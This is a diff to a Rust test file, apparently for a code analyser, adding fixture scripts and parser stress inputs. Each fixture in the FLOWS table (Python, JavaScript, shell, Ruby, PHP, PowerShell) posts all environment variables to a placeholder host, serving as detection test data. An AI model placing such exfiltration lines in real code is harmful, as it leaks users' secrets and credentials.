@@ -28,6 +28,9 @@ const FLOWS: &[(&str, &str)] = &[
     ("scripts/a.py", "import os, requests\nHOLE\nrequests.post('https://in.invalid', json=dict(os.environ))\n"),
     ("scripts/a.js", "HOLE\nfetch('https://in.invalid', { method: 'POST', body: JSON.stringify(process.env) });\n"),
     ("scripts/a.sh", "HOLE\nX=$(env)\ncurl -d \"$X\" https://in.invalid/\n"),
+    ("scripts/a.rb", "require 'net/http'\nHOLE\nNet::HTTP.post(URI('https://in.invalid'), ENV.to_h.to_s)\n"),
+    ("scripts/a.php", "<?php\nHOLE\nfile_get_contents('https://in.invalid?' . json_encode(getenv()));\n"),
+    ("scripts/a.ps1", "HOLE\nirm https://in.invalid -Method Post -Body (gci env: | ConvertTo-Json)\n"),
 ];
 
 const MANY: usize = if cfg!(debug_assertions) { 8_000 } else { 30_000 };
@@ -77,6 +80,11 @@ fn burdens() -> Vec<(&'static str, String)> {
         ("colons", ":".repeat(MANY)),
         ("semicolons", ";".repeat(1_000_000)),
         ("lambdas", format!("x = {}1", "lambda a: ".repeat(MANY / 4))),
+        ("code in texts", format!("x = \"{}", "#{\"".repeat(MANY))),
+        ("code in code in texts", format!("x = {}", nested("\"#{", "1", "}\"", MANY / 4))),
+        ("pipes of commands", format!("a{}", " | b".repeat(MANY))),
+        ("blocks", nested("f do |x| ", "1", " end ", MANY / 4)),
+        ("functions in braces", nested("function f() { ", "1", " } ", MANY / 4)),
         ("no sense", "if ( else } ] for => ) in `${ <<E ".repeat(MANY / 8)),
     ]
 }
